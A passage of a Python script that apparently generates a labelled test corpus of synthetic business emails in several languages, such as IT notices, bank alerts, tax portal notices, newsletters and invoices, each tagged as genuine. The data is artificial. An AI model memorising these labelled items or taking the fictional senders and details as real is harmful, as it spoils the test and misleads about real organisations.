           "Konten, deren Passwort die neuen Anforderungen nicht erfüllt, werden beim nächsten Anmelden am Firmen-PC zur "
           "Änderung aufgefordert. Bitte ändern Sie Ihr Passwort ausschließlich am Firmen-PC (Strg+Alt+Entf > Kennwort ändern) "
           "oder im Intranet unter https://portal.example.com/kennwort.\n\n"
           "Wichtig: Die IT wird Sie NIE per E-Mail nach Ihrem Passwort fragen und verschickt keine QR-Codes zur MFA-Registrierung. "
           "Verdächtige Nachrichten bitte mit dem Button \"Phishing melden\" in Outlook melden.\n\n"
           "Bei Fragen: Durchwahl -444 oder it-service@example.com\n\nViele Grüße\nJonas Becker\nIT-Service | Example Group\n")
    html = ("<html><head><meta http-equiv=\"Content-Type\" content=\"text/html; charset=Windows-1252\"></head><body><div style=\"font-family:Calibri,sans-serif;font-size:11pt\">" +
            txt.replace("&", "&amp;").replace(">", "&gt;").replace("\n", "<br>\n") + "</div></body></html>")
    body = MP("alternative", [TXT(txt, cs="windows-1252", csname="Windows-1252"), HTML(html, cs="windows-1252", csname="Windows-1252")], outlook_bnd("b9", "EXMBX01"))
    emit("business", "09-de-internal-it-password-policy.eml",
         "Internal IT-Service announcement (via internal relay) of a new password/MFA policy with an intranet link - looks like an IT phish but is genuine.",
         client=client, rcpt=rc, t=t, rp="it-service@example.com", relays=relays,
         hdrs=[("From", A("IT-Service Example Group", "it-service@example.com")), ("To", A("Alle Mitarbeitenden DE", "alle-de@example.com")),
               ("Subject", ew("Neue Passwortrichtlinie ab 07.12.2026 – bitte lesen", "windows-1252", q=True, csname="Windows-1252")),
               ("Thread-Topic", "Neue Passwortrichtlinie ab 07.12.2026"), ("Thread-Index", thread_index("b9")),
               ("Date", rfc(t, False)), ("Message-ID", exch_mid("b9", "EXMBX01")), ("Accept-Language", "de-DE"),
               ("Content-Language", "de-DE"), ("Importance", "high"), ("X-Priority", "1")] + extra,
         body=body)

    # 10 ELSTER notification
    rc = E("wenzel")
    t = T(2, 6, 14, 40, CET)
    txt = ("Sehr geehrte Nutzerin, sehr geehrter Nutzer,\n\nin Ihrem Benutzerkonto \"Example Group GmbH\" in Mein ELSTER "
           "wurde ein neuer Bescheid zur Abholung bereitgestellt.\n\nArt: Bescheid über Umsatzsteuer-Vorauszahlung\n"
           "Steuernummer: 27/***/*****\nBereitgestellt am: 02.12.2026\n\nBitte melden Sie sich zum Abruf wie gewohnt in "
           "Mein ELSTER an (www.elster.de). Aus Sicherheitsgründen enthält diese E-Mail keine Links und keine Anhänge.\n\n"
           "Mit freundlichen Grüßen\nIhr ELSTER-Team\n\nDiese E-Mail wurde automatisch erzeugt. Bitte antworten Sie nicht auf diese E-Mail.\n")
    emit("business", "10-de-elster-bescheid-notification.eml",
         "Genuine ELSTER notification that a tax assessment is ready for download (no links, no attachment).",
         client=("mail2.elster.de", "mail2.elster.de", "193.109.238.82"), rcpt=rc, t=t, rp="noreply@elster.de",
         hdrs=[("From", A("ELSTER", "noreply@elster.de")), ("To", rc),
               ("Subject", ew("ELSTER: Neuer Bescheid zur Abholung bereitgestellt", "iso-8859-15", q=True)),
               ("Message-ID", "<%s.%s@elster.de>" % (hx("b10m", n=16), hx("b10n", n=8))), ("Auto-Submitted", "auto-generated")],
         body=TXT(txt, cs="iso-8859-15", csname="ISO-8859-15"))

    # 11 Internal meeting invitation with iCalendar
    rc = E("krueger")
    t = T(3, 9, 12, 2, CET)
    client, relays, extra = internal_infra(t, "b11", rc, mbx="EXMBX02")
    desc = ("Hallo zusammen,\n\nVorbesprechung zur Jahresabschlussprüfung 2026 mit Hartwell & Partner. "
            "Bitte Offene-Posten-Listen Kreditoren/Debitoren mitbringen.\n\nRaum: Elbe (3. OG) oder per Teams.\n\nGruß\nClaudia")
    cal = ics("040000008200E00074C5B7101A82E00800000000%s" % hx("b11u", n=32).upper(),
              "Jahresabschluss 2026 – Vorbesprechung Wirtschaftsprüfer", T(8, 10, 0) if False else T(4, 10, 0), T(4, 11, 30),
              ("Claudia Wenzel", E("wenzel")), [("Sabine Krüger", rc), ("Markus Brandt", E("brandt"))],
              location="Besprechungsraum Elbe (3. OG); Microsoft Teams-Besprechung", description=desc)
    html = "<html><body><div style=\"font-family:Calibri;font-size:11pt\">" + desc.replace("&", "&amp;").replace("\n", "<br>") + "</div></body></html>"
    body = MP("alternative", [TXT(desc), HTML(html), ATT(cal, "text/calendar; method=REQUEST", "meeting.ics", cte="base64", disp="inline", extra_ct=' charset="utf-8";')],
              outlook_bnd("b11", "EXMBX02"))
    emit("business", "11-de-internal-meeting-invitation-ics.eml",
         "Internal Outlook meeting request (text/calendar METHOD:REQUEST) from the CFO for an audit preparation meeting.",
         client=client, rcpt=rc, t=t, rp=E("wenzel"), relays=relays,
         hdrs=[("From", A("Claudia Wenzel", E("wenzel"))), ("To", "%s, %s" % (A("Sabine Krüger", rc), A("Markus Brandt", E("brandt")))),
               ("Subject", ew("Jahresabschluss 2026 – Vorbesprechung Wirtschaftsprüfer")), ("Thread-Topic", "Jahresabschluss 2026"),
               ("Thread-Index", thread_index("b11")), ("Date", rfc(t, False)), ("Message-ID", exch_mid("b11")),
               ("Accept-Language", "de-DE"), ("Content-Language", "de-DE"), ("X-MS-Exchange-Calendar-Series-Instance-Id", "BAAAAIIA4AB0xbcQGoLgCAAAAAA" + hx("si", n=16).upper())] + extra,
         body=body)

    # 12 Subscribed trade-fair newsletter (CleverReach)
    rc = E("schmitt")
    t = T(4, 10, 0, 0, CET)
    url = "https://ml.cleverreach.com/c/%s/%s" % (hx("cr1", n=12), hx("cr2", n=24))
    html = ('<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head><body style="font-family:Arial;background:#eee">'
            '<table width="600" align="center" style="background:#fff"><tr><td style="background:#00305e;color:#fff;padding:20px;font-size:24px">Intralogistik-Messe Newsletter</td></tr>'
            '<tr><td style="padding:20px;font-size:14px">Sehr geehrter Herr Schmitt,<br><br>der Ticketshop für die Frühjahrsmesse 2027 ist geöffnet. '
            'Als registrierter Fachbesucher erhalten Sie Ihr Ticket mit dem Code <b>FB27-HH</b> kostenfrei.<br><br>'
            '<a href="%s" style="background:#e2001a;color:#fff;padding:10px 20px;text-decoration:none">Jetzt Ticket sichern</a><br><br>'
            'Themen 2027: Autonome Flurförderzeuge, KI in der Lagersteuerung, eFTI und digitale Frachtpapiere.</td></tr>'
            '<tr><td style="padding:20px;font-size:11px;color:#777">Sie erhalten diesen Newsletter, weil Sie sich am 14.03.2025 als Fachbesucher registriert haben. '
            '<a href="https://ml.cleverreach.com/rmftlp.php?cid=%s&mid=%s">Abmelden</a> | Impressum: Messegesellschaft Nord mbH, Hamburg</td></tr></table></body></html>'
            % (url, hx("crc", n=8), hx("crm", n=8)))
    body = MP("alternative", [TXT("Sehr geehrter Herr Schmitt,\n\nder Ticketshop für die Frühjahrsmesse 2027 ist geöffnet. Code FB27-HH.\n%s\n" % url), HTML(html)],
              "=-=-=-=-=-=-=-=-=-=-=-=-=-=-=-=-=-%s" % hx("b12b", n=12))
    emit("business", "12-de-trade-fair-newsletter.eml",
         "Subscribed trade-fair newsletter (CleverReach) with a free visitor ticket code, tracking links and one-click unsubscribe.",
         client=("mta7.cleverreach.com", "mta7.cleverreach.com", "37.202.3.107"), rcpt=rc, t=t,
         rp="bounce-%s@bounce.cleverreach.com" % hx("b12r", n=16),
         hdrs=[("From", A("Intralogistik-Messe", "newsletter@intralogistik-messe.de")), ("To", A("Lukas Schmitt", rc)),
               ("Subject", ew("Ticketshop geöffnet: Ihr kostenfreies Fachbesucher-Ticket 2027")),
               ("Message-ID", "<%s@cleverreach.com>" % hx("b12m", n=28)),
               ("List-Unsubscribe", "<https://ml.cleverreach.com/rmftlp.php?cid=%s&mid=%s>" % (hx("crc", n=8), hx("crm", n=8))),
               ("List-Unsubscribe-Post", "List-Unsubscribe=One-Click"), ("Precedence", "bulk"), ("X-Mailer", "CleverReach Mailer")],
         body=body)

# ========================================================= BUSINESS (ru) ==

def business_ru():
    # 13 Internal: salary report as encrypted ZIP, KOI8-R
    rc = E("ivanov")
    t = T(30, 17, 20, 11, MSK)
    client, relays, extra = internal_infra(t, "b13", rc, mbx="EXMBX02")
    sheet = xlsx([["Табельный №", "ФИО", "Оклад", "Премия", "Итого"], ["0012", "Смирнова О.В.", 185000, 30000, 215000],
                  ["0027", "Кузнецова М.А.", 120000, 15000, 135000]], sheet="Ноябрь 2026", creator="Смирнова О.В.")
    z = mkzip_enc([("Зарплата_ноябрь_2026.xlsx", sheet)], "Lt7#vQ2m", dt=(2026, 11, 30, 17, 5, 0))
    txt = ("Алексей Николаевич, добрый вечер!\n\nНаправляю сводную ведомость по зарплате за ноябрь 2026 для "
           "утверждения. Архив защищен паролем, пароль сообщу по телефону (как обычно, не по почте).\n\n"
           "Срок перечисления - 04.12.2026.\n\nС уважением,\nОльга Смирнова\nГлавный бухгалтер\nExample Group, Москва\n")
    body = MP("mixed", [TXT(txt, cs="koi8-r", csname="koi8-r", cte="quoted-printable"),
                        ATT(z, "application/x-zip-compressed", "Зарплата_ноябрь_2026.zip", style="ew")], outlook_bnd("b13"))
    emit("business", "13-ru-internal-salary-report-encrypted-zip.eml",
         "Internal mail (KOI8-R) from the Russian chief accountant with a password-protected ZIP of the payroll sheet; password to be given by phone.",
         client=client, rcpt=rc, t=t, rp=E("smirnova"), relays=relays,
         hdrs=[("From", A("Ольга Смирнова", E("smirnova"), "koi8-r", csname="koi8-r")), ("To", A("Алексей Иванов", rc, "koi8-r", csname="koi8-r")),
               ("Subject", ew("Зарплатная ведомость за ноябрь 2026 (архив под паролем)", "koi8-r", csname="koi8-r")),
               ("Thread-Topic", ew("Зарплатная ведомость за ноябрь 2026", "koi8-r", csname="koi8-r")), ("Thread-Index", thread_index("b13")),
               ("Date", rfc(t, False)), ("Message-ID", exch_mid("b13")), ("Accept-Language", "ru-RU"), ("Content-Language", "ru-RU")] + extra,
         body=body)

    # 14 Bank statement with password-protected PDF, windows-1251
    rc = E("smirnova")
    t = T(1, 7, 5, 0, MSK)
    doc = pdf([("Raiffeisenbank AO - Vypiska po schetu", 13), "Klient: OOO Example Group RUS   INN 7705****11",
               "Schet: 40702810900000044719 (RUB)", "Period: 30.11.2026", "", "Vkhodyashchiy ostatok: 12 418 330,17",
               "Oborot Dt: 1 904 220,00   Oborot Kt: 2 318 415,50", "Iskhodyashchiy ostatok: 12 832 525,67"],
              title="Vypiska 40702810900000044719", author="Raiffeisen Business Online", producer="iText 8.0.5", password="7705012311", seed="b14")
    txt = ("Уважаемый клиент!\n\nНаправляем выписку по счёту № 40702810900000044719 за 30.11.2026.\n\n"
           "Файл защищён паролем. Паролем является ИНН Вашей организации.\n\n"
           "Это автоматическое сообщение, отвечать на него не нужно. Подключить или отключить рассылку выписок можно "
           "в интернет-банке «Райффайзен Бизнес» в разделе «Настройки».\n\nАО «Райффайзенбанк»\n8 800 700-91-00\n")
    body = MP("mixed", [TXT(txt, cs="windows-1251", csname="windows-1251", cte="base64"),
                        ATT(doc, "application/pdf", "Vypiska_40702810900000044719_20261130.pdf")], "----=_Part_%s" % hx("b14b", n=20))
    emit("business", "14-ru-bank-statement-encrypted-pdf.eml",
         "Automatic daily account statement from the Russian bank with a password-protected (encrypted) PDF, windows-1251 base64 body.",
         client=("mx3.raiffeisen.ru", "mx3.raiffeisen.ru", "91.206.201.23"), rcpt=rc, t=t, rp="statement@raiffeisen.ru", tls="1.2",
         hdrs=[("From", A("Райффайзен Бизнес", "statement@raiffeisen.ru", "windows-1251", csname="windows-1251")), ("To", rc),
               ("Subject", ew("Выписка по счёту 40702810900000044719 за 30.11.2026", "windows-1251", csname="windows-1251")),
               ("Message-ID", "<%s@raiffeisen.ru>" % hx("b14m", n=30)), ("Auto-Submitted", "auto-generated")],
         body=body)

    # 15 Kontur.Diadoc EDO notification
    rc = E("smirnova")
    t = T(2, 13, 41, 19, tz(5))
    link = "https://diadoc.kontur.ru/%s/Document/Show?letterId=%s&documentId=%s" % (hx("d1", n=8), hx("d2", n=12), hx("d3", n=12))
    html = ('<html><head><meta charset="utf-8"></head><body style="font-family:Arial;font-size:14px;color:#222">'
            '<table width="600"><tr><td style="padding:14px 0"><b style="color:#1f87ef;font-size:20px">Контур.Диадок</b></td></tr>'
            '<tr><td><p>В ящик организации <b>ООО «Экзампл Груп РУС»</b> поступил документ:</p>'
            '<p><b>УПД № 1187 от 01.12.2026</b> на сумму 482 160,00 руб.<br>Отправитель: ООО «ТрансЛогистик», ИНН 7728******</p>'
            '<p>Документ требует подписания.</p><p><a href="%s">Перейти к документу</a></p>'
            '<p style="font-size:12px;color:#888">Чтобы не получать уведомления, измените настройки в Диадоке. АО «ПФ «СКБ Контур», Екатеринбург.</p></td></tr></table></body></html>' % link)
    body = MP("alternative", [TXT("В ящик организации ООО «Экзампл Груп РУС» поступил документ: УПД № 1187 от 01.12.2026.\nПерейти: %s\n" % link), HTML(html)],
              "----=_NextPart_%s" % hx("b15b", n=16))
    emit("business", "15-ru-diadoc-edo-document-received.eml",
         "Genuine Kontur.Diadoc EDI notification that a universal transfer document (УПД) awaits signature.",
         client=("smtp3.kontur.ru", "smtp3.kontur.ru", "46.17.200.43"), rcpt=rc, t=t, rp="noreply@diadoc.ru",
         hdrs=[("From", A("Контур.Диадок", "noreply@diadoc.ru")), ("To", rc),
               ("Subject", ew("Новый документ от ООО «ТрансЛогистик»: УПД № 1187 от 01.12.2026")),
               ("Message-ID", "<%s@diadoc.ru>" % hx("b15m", n=28)), ("Auto-Submitted", "auto-generated")],
         body=body)

    # 16 Customer out-of-office auto-reply, windows-1251
    rc = E("kuznetsova")
    t = T(3, 10, 2, 7, MSK)
    client, relays, extra = m365_infra(t, "b16", tenant_host="AM9PR05MB8122", region="eurprd05")
    txt = ("Здравствуйте!\n\nЯ в отпуске до 14.12.2026 включительно, доступ к почте ограничен.\n"
           "По вопросам поставок и отгрузок обращайтесь, пожалуйста, к Елене Петровой: e.petrova@promtorg-nn.ru, "
           "тел. +7 831 412-55-10.\n\nС уважением,\nСергей Волков\nООО «ПромТорг НН»\n")
    body = MP("alternative", [TXT(txt, cs="windows-1251", csname="windows-1251"),
                              HTML("<html><head><meta http-equiv=\"Content-Type\" content=\"text/html; charset=windows-1251\"></head><body><p>" + txt.replace("\n", "<br>") + "</p></body></html>", cs="windows-1251", csname="windows-1251")],
              "_000_AM9PR05MB8122%s_" % hx("b16b", n=24).upper())
    emit("business", "16-ru-customer-auto-reply-vacation.eml",
         "Out-of-office auto-reply (Auto-Submitted: auto-replied) from a Russian customer, windows-1251 via Microsoft 365.",
         client=client, rcpt=rc, t=t, rp="", relays=relays,
         hdrs=[("From", A("Сергей Волков", "s.volkov@promtorg-nn.ru", "windows-1251", csname="windows-1251")), ("To", A("Мария Кузнецова", rc)),
               ("Subject", ew("Автоматический ответ: Счёт № 1187 и отгрузка на 08.12", "windows-1251", csname="windows-1251")),
               ("Thread-Topic", ew("Счёт № 1187 и отгрузка на 08.12", "windows-1251", csname="windows-1251")), ("Thread-Index", thread_index("b16")),
               ("Date", rfc(t, False)), ("Message-ID", outlook_mid("b16", "AM9PR05MB8122", "EURPRD05")),
               ("In-Reply-To", exch_mid("b16r")), ("References", exch_mid("b16r")),
               ("Auto-Submitted", "auto-replied"), ("X-Auto-Response-Suppress", "All"), ("X-MS-Exchange-Inbox-Rules-Loop", "s.volkov@promtorg-nn.ru"),
               ("Content-Language", "ru-RU")] + extra,
         body=body, tls="1.2")

    # 17 Subscribed accounting newsletter (UniSender)
    rc = E("smirnova")
    t = T(4, 8, 0, 31, MSK)
    def u(i):
        return "https://klerk.ru/go/?u=%s&utm_source=unisender&utm_medium=email&utm_campaign=digest_2026_12_04&l=%d" % (hx("kl", n=12), i)
    heads = ["НДС 22%: разъяснения ФНС по переходным договорам", "Календарь бухгалтера на декабрь 2026",
             "МЧД: что изменится с 1 марта 2027", "Новогодние подарки сотрудникам: НДФЛ и взносы"]
    lis = "".join('<li><a href="%s">%s</a></li>' % (u(i), h) for i, h in enumerate(heads))
    html = ('<html><head><meta charset="utf-8"></head><body style="font-family:Arial"><h2>Клерк. Главное за неделю</h2><ul>%s</ul>'
            '<p style="font-size:11px;color:#888">Вы подписаны на рассылку «Клерк. Дайджест». <a href="https://unsubscribe.unisender.com/%s">Отписаться</a></p></body></html>'
            % (lis, hx("uns", n=20)))
    body = MP("alternative", [TXT("Клерк. Главное за неделю\n\n" + "\n".join("%s\n%s" % (h, u(i)) for i, h in enumerate(heads)) + "\n", cte="base64"), HTML(html, cte="base64")],
              "----=_Part_%s" % hx("b17b", n=16))
    emit("business", "17-ru-subscribed-accounting-digest.eml",
         "Subscribed weekly digest from an accounting news portal sent via UniSender, with tracking links and unsubscribe.",
         client=("smtp33.unisender.com", "smtp33.unisender.com", "185.98.84.133"), rcpt=rc, t=t,
         rp="bounce-%s@bnc.unisender.com" % hx("b17r", n=14),
         hdrs=[("From", A("Клерк", "digest@klerk.ru")), ("To", rc), ("Subject", ew("Главное за неделю: НДС 22%, МЧД, календарь на декабрь")),
               ("Message-ID", "<%s@unisender.com>" % hx("b17m", n=24)),
               ("List-Unsubscribe", "<https://unsubscribe.unisender.com/%s>" % hx("uns", n=20)), ("List-Unsubscribe-Post", "List-Unsubscribe=One-Click"),
               ("Precedence", "bulk")],
         body=body)

# ========================================================= BUSINESS (es) ==

def business_es():
    # 18 DEHú notification
    rc = E("fernandez")
    t = T(30, 8, 15, 2, CET)
    txt = ("Le informamos que tiene a su disposición una notificación electrónica en la Dirección Electrónica "
           "Habilitada única (DEHú).\n\nTitular: EXAMPLE GROUP ESPAÑA SL (B9*******)\nOrganismo emisor: Tesorería General de la "
           "Seguridad Social\nConcepto: Comunicación de resolución\nFecha de puesta a disposición: 30/11/2026\n\n"
           "Puede acceder a la notificación a través de https://dehu.redsara.es con su certificado electrónico o Cl@ve.\n\n"
           "Este mensaje es meramente informativo. Por favor, no responda a este correo.\n")
    emit("business", "18-es-dehu-notification-notice.eml",
         "Genuine Spanish DEHú e-notification notice (informative only, points to the official portal).",
         client=("correo.redsara.es", "correo.redsara.es", "185.73.172.30"), rcpt=rc, t=t, rp="no-reply@correo.gob.es", tls="1.2",
         hdrs=[("From", A("DEHú - Notificaciones", "no-reply@correo.gob.es")), ("To", rc),
               ("Subject", ew("Aviso de puesta a disposición de notificación electrónica", "iso-8859-1", q=True)),
               ("Message-ID", "<%s@correo.gob.es>" % hx("b18m", n=26)), ("Auto-Submitted", "auto-generated")],
         body=TXT(txt, cs="iso-8859-1", csname="ISO-8859-1"))

    # 19 Colleague working from home via personal Gmail with XLSX
    rc = E("martinez")
    t = T(1, 9, 48, 20, CET)
    client, relays, extra = gmail_infra(t, "b19", rc, host=("mail-wm1-f44.google.com", "209.85.128.44"))
    sheet = xlsx([["Fecha", "Concepto", "Banco", "Contabilidad", "Diferencia"], ["30/11/2026", "Saldo final", 412884.17, 412884.17, 0],
                  ["27/11/2026", "Remesa clientes", 58210.40, 58210.40, 0]], sheet="Conciliación nov", creator="Lucía Fernández")
    txt = ("Hola Javier,\n\nTe lo envío desde mi Gmail porque la VPN no me conecta desde casa esta mañana (ya he "
           "abierto ticket con Jonas). Te adjunto la conciliación bancaria de noviembre para que la revises antes "
           "del cierre.\n\nEn cuanto vuelva a tener acceso lo subo a la carpeta de Finanzas.\n\nUn saludo,\nLucía\n")
    html = '<div dir="ltr">' + txt.replace("\n", "<br>") + '</div>'
    b1, b2 = gmail_bnd("b19"), gmail_bnd("b19x")
    body = MP("mixed", [MP("alternative", [TXT(txt, cs="UTF-8", csname="UTF-8"), HTML(html, cs="UTF-8", csname="UTF-8")], b2),
                        ATT(sheet, "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet", "Conciliación_bancaria_nov_2026.xlsx", style="ew",
                            extra=["X-Attachment-Id: f_m%s0" % hx("att", n=8), "Content-ID: <f_m%s0>" % hx("att", n=8)])], b1)
    emit("business", "19-es-colleague-from-personal-gmail-xlsx.eml",
         "Spanish accountant writing from her personal Gmail (VPN down at home) to her manager with an XLSX bank reconciliation - external free-mail but genuine.",
         client=client, rcpt=rc, t=t, rp="lucia.fernandez.m@gmail.com", relays=relays,
         hdrs=extra + [("MIME-Version", "1.0"), ("From", A("Lucía Fernández", "lucia.fernandez.m@gmail.com")),
                       ("Date", rfc(t)), ("Message-ID", gmail_mid("b19")),
                       ("Subject", ew("Conciliación bancaria noviembre (desde mi Gmail, VPN caída)")), ("To", A("Javier Martínez", rc))],
         body=body)

    # 20 DHL Express on-demand delivery notification
    rc = E("ruiz")
    t = T(2, 6, 31, 0, CET)
    awb = "4719%s" % str(int(hx("awb", n=8), 16))[:6]
    link = "https://www.dhl.com/es-es/home/tracking/tracking-express.html?submit=1&tracking-id=%s" % awb
    html = ('<html><head><meta charset="utf-8"></head><body style="font-family:Arial;font-size:14px">'
            '<div style="background:#ffcc00;padding:14px"><b style="color:#d40511;font-size:22px">DHL</b> Express</div>'
            '<p>Hola Carmen Ruiz,</p><p>Su envío <b>%s</b> de <b>Lieferant GmbH</b> está en camino y se entregará el <b>jueves, 3 de diciembre</b> entre las 09:00 y las 13:00.</p>'
            '<p><a href="%s">Seguir su envío</a> &middot; <a href="https://odd.dhl.com/es/%s">Cambiar la entrega (On Demand Delivery)</a></p>'
            '<p>Importante: DHL nunca le pedirá pagos por SMS o correo sin número de envío válido.</p>'
            '<p style="font-size:11px;color:#777">DHL Express Spain S.L.U. &middot; Este correo se envía desde una dirección no supervisada.</p></body></html>'
            % (awb, link, hx("odd", n=16)))
    body = MP("alternative", [TXT("Su envío %s está en camino. Seguimiento: %s\n" % (awb, link)), HTML(html)], "----=_Part_%s" % hx("b20b", n=18))
    emit("business", "20-es-dhl-express-delivery-notice.eml",
         "Genuine DHL Express On Demand Delivery notification with tracking links for an expected shipment from the German supplier.",
         client=("mailout2.dhl.com", "mailout2.dhl.com", "165.72.200.36"), rcpt=rc, t=t, rp="noreply.odd@dhl.com",
         hdrs=[("From", A("DHL Express", "noreply.odd@dhl.com")), ("To", rc),
               ("Subject", ew("Su envío DHL %s llegará el jueves, 3 de diciembre" % awb)),
               ("Message-ID", "<%s@dhl.com>" % hx("b20m", n=28))],
         body=body)

    # 21 Customer purchase order with PDF
    rc = E("ruiz")
    t = T(2, 12, 44, 9, CET)
    client, relays, extra = m365_infra(t, "b21", tenant_host="DB9PR06MB7712", region="eurprd06")
    doc = pdf([("DISTRIBUCIONES LEVANTE S.L.", 14), "Pol. Ind. Fuente del Jarro - 46988 Paterna (Valencia)", "",
               ("PEDIDO DE COMPRA PO-2026-3318", 12), "Fecha: 02/12/2026   Proveedor: Example Group Espana SL", "",
               "Servicio: transporte grupaje Valencia - Hamburgo, 14 palets, recogida 09/12/2026",
               "Importe acordado: 3.480,00 EUR + IVA", "Condiciones de pago: 60 dias fecha factura", "", "Firmado: Compras"],
              title="PO-2026-3318", author="compras", producer="Microsoft: Print To PDF", seed="b21")
    txt = ("Buenos días Carmen,\n\nAdjunto pedido de compra PO-2026-3318 según vuestra oferta del 27/11. Por favor "
           "confirmad la recogida del miércoles 9.\n\nGracias y un saludo,\n\nPablo Sanchis\nDpto. Compras\nDistribuciones Levante S.L.\nTel. 961 34 22 10\n")
    body = MP("mixed", [MP("alternative", [TXT(txt, cs="iso-8859-1"), HTML("<html><body><p>" + txt.replace("\n", "<br>") + "</p></body></html>", cs="iso-8859-1")],
                           "_000_DB9PR06MB7712%s_" % hx("b21c", n=24).upper()), ATT(doc, "application/pdf", "PO-2026-3318.pdf", size=True)],
              "_004_DB9PR06MB7712%s_" % hx("b21b", n=24).upper())
    emit("business", "21-es-customer-purchase-order-pdf.eml",
         "Purchase order from a Spanish customer (Microsoft 365) with a PDF attachment.",
         client=client, rcpt=rc, t=t, rp="p.sanchis@distribucioneslevante.es", relays=relays,
         hdrs=[("From", A("Pablo Sanchis", "p.sanchis@distribucioneslevante.es")), ("To", A("Carmen Ruiz", rc)),
               ("Subject", "Pedido PO-2026-3318 - grupaje Valencia-Hamburgo"), ("Thread-Topic", "Pedido PO-2026-3318 - grupaje Valencia-Hamburgo"),
               ("Thread-Index", thread_index("b21")), ("Date", rfc(t, False)),
               ("Message-ID", outlook_mid("b21", "DB9PR06MB7712", "EURPRD06")), ("Content-Language", "es-ES")] + extra,
         body=body, tls="1.2")

    # 22 Santander genuine transfer-received notice
    rc = E("fernandez")
    t = T(3, 8, 2, 51, CET)
    html = ('<html><head><meta http-equiv="Content-Type" content="text/html; charset=iso-8859-15"></head><body style="font-family:Arial;font-size:14px">'
            '<div style="background:#ec0000;color:#fff;padding:12px;font-size:18px">Santander</div><div style="padding:16px">'
            'Hola,<br><br>Le informamos de que ha recibido una transferencia en su cuenta ES** **** **** **** **** 4719:<br><br>'
            'Ordenante: DISTRIBUCIONES LEVANTE SL<br>Importe: 4.210,80 &euro;<br>Concepto: FRA ES-26-0912<br>Fecha valor: 03/12/2026<br><br>'
            'Puede consultar el detalle en la app Santander Empresas o en la Banca Online.<br><br>'
            '<span style="font-size:11px;color:#777">Santander nunca le pedirá sus claves ni códigos de firma por correo electrónico ni por teléfono. '
            'Este es un mensaje automático; por favor, no responda.</span></div></body></html>')
    body = MP("alternative", [TXT("Ha recibido una transferencia de 4.210,80 EUR de DISTRIBUCIONES LEVANTE SL (FRA ES-26-0912).\n", cs="iso-8859-15"), HTML(html, cs="iso-8859-15")],
              "----=_Part_%s" % hx("b22b", n=20))
    emit("business", "22-es-santander-transfer-received.eml",
         "Genuine Santander alert of an incoming transfer (no links, no credential request), ISO-8859-15.",
         client=("smtpout3.gruposantander.es", "smtpout3.gruposantander.es", "193.127.210.33"), rcpt=rc, t=t, rp="avisos@gruposantander.es", tls="1.2",
         hdrs=[("From", A("Santander Avisos", "avisos@gruposantander.es")), ("To", rc),
               ("Subject", "Ha recibido una transferencia"), ("Message-ID", "<%s@gruposantander.es>" % hx("b22m", n=26))],
         body=body)

    # 23 SaaS vendor webinar (subscribed, HubSpot)
    rc = E("fernandez")
    t = T(4, 16, 0, 3, CET)
    u = "https://d2Q8Yw04.na1.hs-sales-engage.com/Ctc/%s" % an("hsu", n=40, alphabet=_AL + "-_")
    html = ('<html><head><meta charset="utf-8"></head><body style="font-family:Arial;font-size:15px"><table width="600" align="center">'
            '<tr><td style="padding:20px 0"><b style="font-size:22px;color:#2d1fcb">Holded</b></td></tr>'
            '<tr><td><h2>Verifactu en 2027: lo que tu empresa debe tener listo</h2><p>Hola Lucía,</p>'
            '<p>Desde enero de 2027 los sistemas de facturación deberán cumplir el Reglamento Veri*factu. En este webinar gratuito '
            'repasamos plazos, requisitos técnicos y cómo configurarlo en Holded.</p><p><b>Jueves 10 de diciembre, 11:00 h</b></p>'
            '<p><a href="%s" style="background:#2d1fcb;color:#fff;padding:12px 24px;text-decoration:none">Reservar plaza</a></p>'
            '<p style="font-size:11px;color:#888">Recibes este email porque eres cliente de Holded. <a href="https://info.holded.com/hs/manage-preferences/unsubscribe?d=%s">Darse de baja</a>. '
            'Holded Technologies S.L., Barcelona.</p></td></tr></table></body></html>' % (u, an("hsd", n=30)))
    body = MP("alternative", [TXT("Verifactu en 2027: webinar gratuito el jueves 10 de diciembre, 11:00 h.\nReservar plaza: %s\n" % u), HTML(html)],
              "----=_Part_%s" % hx("b23b", n=18))
    emit("business", "23-es-saas-vendor-verifactu-webinar.eml",
         "Marketing from the accounting SaaS the company uses (HubSpot-sent webinar invitation on Verifactu), with tracking links and unsubscribe.",
         client=("o2.email.holded.com", "o2.email.holded.com", "143.244.80.31"), rcpt=rc, t=t,
         rp="1axbs2n6blw5g@bf01x.hubspotemail.net",
         hdrs=[("From", A("Holded", "hola@holded.com")), ("To", rc), ("Subject", ew("Verifactu en 2027: webinar gratuito el 10 de diciembre")),
               ("Message-ID", "<%s@bf01x.hubspotemail.net>" % hx("b23m", n=30)),
               ("List-Unsubscribe", "<https://info.holded.com/hs/manage-preferences/unsubscribe?d=%s>" % an("hsd", n=30)),
               ("List-Unsubscribe-Post", "List-Unsubscribe=One-Click"), ("Precedence", "bulk"), ("X-HS-Cid", hx("hscid", n=16))],
         body=body)

# ========================================================= BUSINESS (it) ==

def business_it():
    # 24 Genuine haulier invoice (courtesy copy) with PDF + FatturaPA XML
    rc = E("deluca")
    t = T(30, 11, 2, 44, CET)
    client, relays, extra = aruba_infra(t, "b24")
    xml = ('<?xml version="1.0" encoding="UTF-8"?>\n'
           '<p:FatturaElettronica versione="FPR12" xmlns:p="http://ivaservizi.agenziaentrate.gov.it/docs/xsd/fatture/v1.2">\n'
           ' <FatturaElettronicaHeader><DatiTrasmissione><IdTrasmittente><IdPaese>IT</IdPaese><IdCodice>03812450238</IdCodice></IdTrasmittente>'
           '<ProgressivoInvio>0A1B2</ProgressivoInvio><FormatoTrasmissione>FPR12</FormatoTrasmissione><CodiceDestinatario>XXXXXXX</CodiceDestinatario></DatiTrasmissione>'
           '<CedentePrestatore><DatiAnagrafici><IdFiscaleIVA><IdPaese>IT</IdPaese><IdCodice>03812450238</IdCodice></IdFiscaleIVA>'
           '<Anagrafica><Denominazione>Ferretti Trasporti S.r.l.</Denominazione></Anagrafica></DatiAnagrafici></CedentePrestatore></FatturaElettronicaHeader>\n'
           ' <FatturaElettronicaBody><DatiGenerali><DatiGeneraliDocumento><TipoDocumento>TD01</TipoDocumento><Divisa>EUR</Divisa>'
           '<Data>2026-11-30</Data><Numero>2026/1893</Numero><ImportoTotaleDocumento>11240.00</ImportoTotaleDocumento></DatiGeneraliDocumento></DatiGenerali>'
           '<DatiPagamento><CondizioniPagamento>TP02</CondizioniPagamento><DettaglioPagamento><ModalitaPagamento>MP05</ModalitaPagamento>'
